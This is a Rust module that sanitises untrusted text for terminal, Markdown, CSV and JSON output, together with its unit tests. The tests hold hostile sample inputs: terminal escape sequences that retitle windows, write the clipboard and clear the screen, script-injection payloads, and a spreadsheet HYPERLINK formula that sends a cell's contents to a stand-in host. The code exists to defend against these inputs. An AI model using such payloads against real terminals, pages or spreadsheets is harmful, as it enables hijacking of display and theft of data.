//! Outside text made safe for where it goes, in one place: notes, tags,
//! reasons, participant codes, file names and parser messages come from
//! people and files followup does not control, and every writer passes them
//! through here.
//!
//! - [`terminal`] / [`terminal_lines`]: no control character reaches a
//!   terminal (they could retitle the window, write the clipboard, clear the
//!   screen or move the cursor); C0 and C1 controls are shown as visible
//!   symbols, bidirectional overrides, zero-width characters, soft hyphens
//!   and Hangul fillers are removed, and a newline stays only where the
//!   layout asks for lines.
//! - [`markdown`]: the terminal rules plus HTML and Markdown syntax escaped,
//!   so a note cannot become live markup or a heading in a viewer.
//! - [`csv_cell`]: the terminal rules (newlines kept: CSV quotes them) plus
//!   the OWASP rule against formula injection: a cell starting with `=`,
//!   `+`, `-`, `@`, a tab or a carriage return gets a leading `'`.
//! - HTML has its own escaping in the report (`report::html`), and JSON is
//!   escaped by serde.

use std::borrow::Cow;

/// The longest piece of outside text quoted in a message, in characters.
pub const QUOTE_MAX_CHARS: usize = 60;

/// Invisible characters that reorder or hide text: bidirectional
/// embeddings, overrides and isolates, zero-width characters, the soft
/// hyphen, the Hangul fillers (drawn as blank space, so text can look empty
/// or padded), the byte-order mark, interlinear annotations and tag
/// characters.
fn invisible(c: char) -> bool {
    matches!(c,
        '\u{00AD}' | '\u{061C}' | '\u{115F}' | '\u{1160}' | '\u{180E}' | '\u{200B}'..='\u{200F}'
        | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{206F}' | '\u{3164}'
        | '\u{FEFF}' | '\u{FFA0}' | '\u{FFF9}'..='\u{FFFB}' | '\u{E0000}'..='\u{E007F}')
}

/// A control character as something visible: C0 as its control picture
/// (`␛` for ESC), DEL as `␡`, C1 as `�`.
fn visible(c: char) -> char {
    match c {
        '\0'..='\u{1F}' => char::from_u32(0x2400 + c as u32).unwrap_or('\u{FFFD}'),
        '\u{7F}' => '\u{2421}',
        _ => '\u{FFFD}',
    }
}

fn needs_work(s: &str, keep_newlines: bool) -> bool {
    s.chars().any(|c| {
        (c.is_control() && !(keep_newlines && c == '\n'))
            || invisible(c)
            || matches!(c, '\u{2028}' | '\u{2029}')
    })
}

fn clean(s: &str, keep_newlines: bool) -> Cow<'_, str> {
    if !needs_work(s, keep_newlines) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\r' if chars.peek() == Some(&'\n') => {}
            '\n' | '\u{2028}' | '\u{2029}' if keep_newlines => out.push('\n'),
            '\n' | '\u{2028}' | '\u{2029}' => out.push(' '),
            '\t' => out.push(' '),
            c if invisible(c) => {}
            c if c.is_control() => out.push(visible(c)),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// A count with its noun: `1 day`, `3 days`.
pub fn count(n: usize, one: &str, many: &str) -> String {
    format!("{n} {}", if n == 1 { one } else { many })
}

/// Outside text for one line of a terminal: no control characters, no
/// invisible reordering, newlines and tabs as spaces.
pub fn terminal(s: &str) -> Cow<'_, str> {
    clean(s, false)
}

/// Outside text for several lines of a terminal: as [`terminal`], but a
/// newline stays a newline (CRLF becomes LF).
pub fn terminal_lines(s: &str) -> Cow<'_, str> {
    clean(s, true)
}

/// A message that may carry outside text (a parser's words about a file):
/// made safe for a terminal and cut to `max` characters.
pub fn message(s: &str, max: usize) -> String {
    let t = terminal(s);
    if t.chars().count() > max {
        let cut: String = t.chars().take(max.saturating_sub(1)).collect();
        format!("{cut}\u{2026}")
    } else {
        t.into_owned()
    }
}

/// Outside text quoted in a one-line message: made safe for a terminal and
/// cut to [`QUOTE_MAX_CHARS`] characters.
pub fn quote(s: &str) -> String {
    message(s, QUOTE_MAX_CHARS)
}

/// Outside text for one line of Markdown: the terminal rules, then HTML
/// and the characters Markdown gives a meaning escaped.
pub fn markdown(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in terminal(s).chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '\\' | '`' | '*' | '_' | '[' | ']' | '#' | '|' | '~' | '!' => {
                out.push('\\');
                out.push(c);
            }
            c => out.push(c),
        }
    }
    out
}

/// Outside text for a CSV text cell: the terminal rules (newlines kept, the
/// CSV writer quotes them), and a leading `'` when the cell would start
/// with a formula character.
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    let cleaned = clean(s, true);
    // a spreadsheet may skip leading spaces before it looks for a formula
    if cleaned.trim_start().starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cleaned}"))
    } else {
        cleaned
    }
}

/// JSON text for a terminal or a file: serde already escapes control
/// characters; the invisible ones that reorder or hide text are escaped too
/// (`\u202e`), which JSON readers turn back into the same string.
pub fn json(s: &str) -> Cow<'_, str> {
    // serde escapes C0 controls but writes DEL and C1 controls as they are
    let escape = |c: char| invisible(c) || (c.is_control() && c >= '\u{7f}');
    if !s.chars().any(escape) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    for c in s.chars() {
        if escape(c) {
            let mut units = [0u16; 2];
            for u in c.encode_utf16(&mut units) {
                out.push_str(&format!("\\u{u:04x}"));
            }
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// A short, plain reason for an I/O error ("no such file", not "entity not found").
pub fn io_reason(e: &std::io::Error) -> String {
    use std::io::ErrorKind::*;
    match e.kind() {
        NotFound => "no such file or folder".into(),
        PermissionDenied => "permission denied".into(),
        AlreadyExists => "it already exists".into(),
        IsADirectory => "it is a folder".into(),
        InvalidData => "it is not UTF-8 text".into(),
        StorageFull => "the disk is full".into(),
        ReadOnlyFilesystem => "the file system is read-only".into(),
        other => other.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: &str = "a\u{1b}]0;title\u{7}b\u{1b}]52;c;Y3VybA==\u{7}\u{1b}[3J\u{1b}[H\u{1b}[2Jc\u{9b}31m\u{0}\r\nd\u{202e}e\u{200b}f";

    fn no_controls(s: &str) -> bool {
        !s.chars().any(|c| (c.is_control() && c != '\n') || invisible(c))
    }

    #[test]
    fn terminal_text_has_no_control_or_invisible_characters() {
        let t = terminal(HOSTILE);
        assert!(no_controls(&t), "{t:?}");
        assert!(!t.contains('\n'));
        assert!(t.contains('\u{241b}'), "ESC is shown, not sent: {t}");
        let l = terminal_lines(HOSTILE);
        assert!(no_controls(&l) && l.contains('\n') && !l.contains('\r'), "{l:?}");
        assert!(matches!(terminal("plain text"), Cow::Borrowed(_)));
    }

    #[test]
    fn soft_hyphens_and_hangul_fillers_are_taken_out_as_other_invisible_characters_are() {
        for c in ['\u{AD}', '\u{115F}', '\u{1160}', '\u{3164}', '\u{FFA0}'] {
            let hidden = format!("TRD{c}-014 {c}{c}");
            assert_eq!(terminal(&hidden), "TRD-014 ", "{:?}", c);
            assert_eq!(terminal_lines(&hidden), "TRD-014 ", "{:?}", c);
            assert_eq!(markdown(&hidden), "TRD-014 ", "{:?}", c);
            assert_eq!(csv_cell(&format!("{c}=1")), "'=1", "{:?}", c);
            // JSON keeps the text exact, the character written as an escape
            let doc = serde_json::to_string(&hidden).unwrap();
            let safe = json(&doc);
            assert!(safe.contains(&format!("\\u{:04x}", c as u32)), "{safe}");
            assert_eq!(serde_json::from_str::<String>(&safe).unwrap(), hidden);
        }
        // Hangul itself is left as it is
        assert!(matches!(terminal("\u{D55C}\u{AE00} \u{1100}\u{1161}"), Cow::Borrowed(_)));
    }

    #[test]
    fn markdown_has_no_live_markup() {
        let m = markdown("<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:y) # h");
        assert!(!m.contains('<') && !m.contains('>'), "{m}");
        assert!(m.contains("\\[x\\]"), "{m}");
        assert!(no_controls(&markdown(HOSTILE)));
    }

    #[test]
    fn csv_cells_never_start_a_formula() {
        for bad in ["=HYPERLINK(\"http://x?\"&A2,\"click\")", "+1", "-2-3", "@SUM(A1)", "\t=1", " -1"] {
            let c = csv_cell(bad);
            assert!(c.starts_with('\''), "{bad:?} -> {c:?}");
        }
        assert!(csv_cell("=1").starts_with("'="));
        assert_eq!(csv_cell("walk"), "walk");
        assert_eq!(csv_cell("two\nlines"), "two\nlines");
    }

    #[test]
    fn json_escapes_invisible_characters() {
        let doc = serde_json::to_string(&serde_json::json!({ "note": HOSTILE })).unwrap();
        let safe = json(&doc);
        assert!(no_controls(&safe), "{safe}");
        let back: serde_json::Value = serde_json::from_str(&safe).unwrap();
        assert_eq!(back["note"], HOSTILE);
    }

    #[test]
    fn quotes_are_short_and_safe() {
        let q = quote(&"x".repeat(10_000));
        assert_eq!(q.chars().count(), QUOTE_MAX_CHARS);
        assert!(no_controls(&quote(HOSTILE)));
    }
}
